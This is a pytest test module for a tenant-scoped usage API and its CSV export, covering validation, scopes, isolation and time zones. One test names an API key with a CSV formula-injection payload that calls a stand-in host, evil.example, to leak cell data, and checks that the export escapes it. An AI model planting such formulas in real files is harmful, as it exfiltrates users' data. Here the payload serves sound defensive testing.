"""GET /api/v1/usage and /api/v1/usage.csv: validation, content, scopes and isolation."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from analytics.rollups import usage_rollup_run
from analytics.selectors import month_bounds, tenant_today
from tests.analytics.factories import record_at, utc
from tests.analytics.test_reports import seed
from tests.tenants.factories import TenantFactory

pytestmark = pytest.mark.django_db

MARCH = {"from": "2026-03-01", "to": "2026-03-31"}


def test_usage_returns_rows_totals_quota_and_cost(api_client_for):
    tenant = TenantFactory(time_zone="Europe/Berlin", plan__price_per_million_characters=Decimal("2000"),
                           plan__currency="EUR")
    seed(tenant, rolled="partial")

    response = api_client_for(tenant, scopes=["usage"]).get("/api/v1/usage", {**MARCH, "group_by": "day"})

    assert response.status_code == 200, response.json()
    body = response.json()
    assert (body["from"], body["to"], body["time_zone"], body["group_by"]) == (
        "2026-03-01", "2026-03-31", "Europe/Berlin", "day")
    assert body["rows"] == [{
        "key": "2026-03-11", "label": "2026-03-11", "requests": 3, "characters": 350, "characters_billed": 300,
        "audio_seconds": 7.0, "processing_seconds": 1.6, "cached_requests": 1, "errors": 1,
        "cache_hit_rate": 0.3333,
    }]
    assert body["totals"]["characters_billed"] == 300 and body["totals"]["key"] is None
    assert body["cost"] == {"currency": "EUR", "price_per_million_characters": "2000.0000",
                            "characters_billed": 300, "amount": "0.60"}
    quota = body["quota"]
    assert set(quota) == {"period_start", "period_end", "characters_limit", "characters_used", "characters_held",
                          "characters_remaining"}
    assert quota["characters_limit"] == tenant.plan.monthly_characters


def test_usage_defaults_to_the_current_month_by_day(api_client_for, tenant):
    today = tenant_today(tenant=tenant)

    body = api_client_for(tenant).get("/api/v1/usage").json()

    assert (body["from"], body["to"], body["group_by"]) == (month_bounds(today)[0].isoformat(), today.isoformat(),
                                                            "day")
    assert body["rows"] == [] and body["cost"] is None


@pytest.mark.parametrize("group_by,keys", [
    ("month", ["2026-03"]),
    ("voice", ["piper:en_US-joe-medium", "kokoro:af_heart"]),
    ("engine", ["piper", "kokoro"]),
])
def test_usage_groups(api_client_for, group_by, keys):
    tenant = TenantFactory(time_zone="Europe/Berlin")
    seed(tenant, rolled="all")

    rows = api_client_for(tenant).get("/api/v1/usage", {**MARCH, "group_by": group_by}).json()["rows"]

    assert [row["key"] for row in rows] == keys


@pytest.mark.parametrize("params,field", [
    ({"from": "2026-02-30"}, "from"),
    ({"from": "yesterday"}, "from"),
    ({"to": "2026-13-01"}, "to"),
    ({"from": "2026-03-31", "to": "2026-03-01"}, "from"),
    ({"from": "2025-01-01", "to": "2026-03-01"}, "to"),
    ({"from": "1999-12-31", "to": "2000-01-02"}, "from"),
    ({"from": "0001-01-01", "to": "0001-01-02"}, "from"),
    ({"group_by": "week"}, "group_by"),
])
@pytest.mark.parametrize("url", ["/api/v1/usage", "/api/v1/usage.csv"])
def test_usage_rejects_bad_parameters_with_a_validation_error(api_client_for, tenant, params, field, url):
    response = api_client_for(tenant).get(url, params)

    assert response.status_code == 400
    body = response.json()
    assert set(body) == {"code", "message", "extra"}
    assert body["code"] == "validation_error"
    assert field in body["extra"]["fields"]


def test_usage_accepts_a_year_and_refuses_401_days(api_client_for, tenant):
    client = api_client_for(tenant)

    year = client.get("/api/v1/usage", {"from": "2025-01-01", "to": "2026-02-04", "group_by": "month"})
    too_long = client.get("/api/v1/usage", {"from": "2025-01-01", "to": "2026-02-05"})

    assert year.status_code == 200
    assert too_long.status_code == 400
    assert too_long.json()["extra"]["max_days"] == 400


def test_usage_needs_the_usage_scope(api_client_for, tenant):
    response = api_client_for(tenant, scopes=["speech"]).get("/api/v1/usage")

    assert response.status_code == 403
    assert response.json()["code"] == "insufficient_scope"


def test_usage_needs_a_credential(client):
    response = client.get("/api/v1/usage.csv")

    assert response.status_code == 401
    assert response.json()["code"] == "not_authenticated"


def test_usage_csv_has_the_same_rows_as_the_json(api_client_for):
    tenant = TenantFactory(time_zone="America/Los_Angeles")
    keys = seed(tenant, rolled="partial")
    client = api_client_for(tenant)

    response = client.get("/api/v1/usage.csv", {**MARCH, "group_by": "key"}, HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="parla-usage-{tenant.slug}-2026-03-01-2026-03-31-by-key.csv"')
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["api_key_id", "label", "requests", "characters", "characters_billed", "audio_seconds",
         "processing_seconds", "cached_requests", "errors"],
        [str(keys["k2"].pk), f"batch ({keys['k2'].prefix}…)", "1", "1000", "1000", "20.0", "3.0", "0", "0"],
        [str(keys["k1"].pk), f"server ({keys['k1'].prefix}…)", "2", "300", "300", "6.0", "1.5", "0", "0"],
        ["", "Dashboard (no API key)", "1", "50", "0", "1.0", "0.1", "1", "1"],
    ]
    json_rows = client.get("/api/v1/usage", {**MARCH, "group_by": "key"}).json()["rows"]
    assert [row["key"] or "" for row in json_rows] == [str(keys["k2"].pk), str(keys["k1"].pk), ""]


def test_usage_csv_escapes_a_key_name_that_is_a_formula(api_client_for):
    from tests.tenants.factories import ApiKeyFactory

    tenant = TenantFactory(time_zone="UTC")
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    key = ApiKeyFactory.create(tenant=tenant, name=formula)
    record_at(tenant, utc(2026, 3, 10, 12), api_key=key, characters=100)

    response = api_client_for(tenant).get("/api/v1/usage.csv", {**MARCH, "group_by": "key"})

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][:3] == [str(key.pk), f"'{formula} ({key.prefix}…)", "1"]  # A number stays a number.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_usage_csv_by_day(api_client_for):
    tenant = TenantFactory(time_zone="UTC")
    seed(tenant, rolled="all")

    response = api_client_for(tenant).get("/api/v1/usage.csv", MARCH)

    assert response.content.decode().splitlines() == [
        "day,label,requests,characters,characters_billed,audio_seconds,processing_seconds,cached_requests,errors",
        "2026-03-10,2026-03-10,1,100,100,2.0,0.5,0,0",
        "2026-03-11,2026-03-11,2,250,200,5.0,1.1,1,1",
    ]


@pytest.mark.parametrize("url", ["/api/v1/usage", "/api/v1/usage.csv"])
def test_another_tenants_key_never_sees_a_row(api_client_for, url):
    mine, theirs = TenantFactory(), TenantFactory()
    seed(theirs, rolled="partial")
    record_at(mine, utc(2026, 3, 20, 12), voice_id="piper:mine", characters=9)
    usage_rollup_run(tenant_id=mine.pk)

    response = api_client_for(mine).get(url, {**MARCH, "group_by": "voice", "tenant": theirs.slug,
                                              "tenant_id": theirs.pk})

    text = response.content.decode()
    assert response.status_code == 200
    assert "piper:mine" in text
    assert "kokoro" not in text and "en_US-joe" not in text


def test_usage_is_in_the_openapi_document(client):
    import yaml

    document = yaml.safe_load(client.get("/api/schema").content)

    assert {"/api/v1/usage", "/api/v1/usage.csv"} <= set(document["paths"])
    csv_ok = document["paths"]["/api/v1/usage.csv"]["get"]["responses"]["200"]["content"]
    assert list(csv_ok) == ["text/csv"]
    parameters = {p["name"] for p in document["paths"]["/api/v1/usage"]["get"]["parameters"]}
    assert parameters == {"from", "to", "group_by"}


def test_usage_month_rows_use_the_tenants_months(api_client_for):
    tenant = TenantFactory(time_zone="America/Los_Angeles")
    seed(tenant, rolled="all")

    rows = api_client_for(tenant).get("/api/v1/usage", {"from": "2026-03-01", "to": "2026-04-30",
                                                        "group_by": "month"}).json()["rows"]

    assert [(row["key"], row["requests"]) for row in rows] == [("2026-03", 4)]


def test_usage_dates_are_local_days(api_client_for):
    tenant = TenantFactory(time_zone="Europe/Berlin")
    record_at(tenant, utc(2026, 1, 14, 23, 30))

    body = api_client_for(tenant).get("/api/v1/usage", {"from": "2026-01-14", "to": "2026-01-15"}).json()

    assert [row["key"] for row in body["rows"]] == ["2026-01-15"]
    assert dt.date.fromisoformat(body["rows"][0]["key"]) == dt.date(2026, 1, 15)
